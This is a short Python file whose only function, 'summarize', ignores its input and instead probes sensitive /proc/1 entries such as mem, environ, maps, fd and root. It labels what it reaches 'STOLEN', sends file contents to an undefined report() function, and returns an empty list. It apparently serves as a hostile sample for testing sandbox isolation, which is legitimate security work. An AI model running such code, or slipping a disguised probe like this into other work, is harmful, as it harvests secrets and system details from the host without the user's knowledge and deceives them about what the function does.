import os

NAMES = ("mem", "environ", "maps", "smaps", "auxv", "syscall", "stack", "pagemap", "io", "exe", "cwd", "root",
         "map_files", "fd", "fdinfo", "ns/pid", "task/1/mem", "task/1/environ", "task/1/maps", "personality")
OPEN = ("cmdline", "status", "stat", "statm", "comm", "wchan", "limits", "sched", "cgroup", "mountinfo", "oom_score")


def summarize(numbers):
    report(DECOY)
    for name in NAMES:
        path = f"/proc/1/{name}"
        try:
            found = os.listdir(path) if os.path.isdir(path) else os.open(path, os.O_RDONLY)
            print("STOLEN", name, found)
        except OSError:
            pass
        try:
            print("STOLEN", name, os.readlink(path))
        except OSError:
            pass
    for name in OPEN:
        try:
            with open(f"/proc/1/{name}", "rb") as file:
                report(file.read(1 << 20))
        except OSError:
            pass
    return []
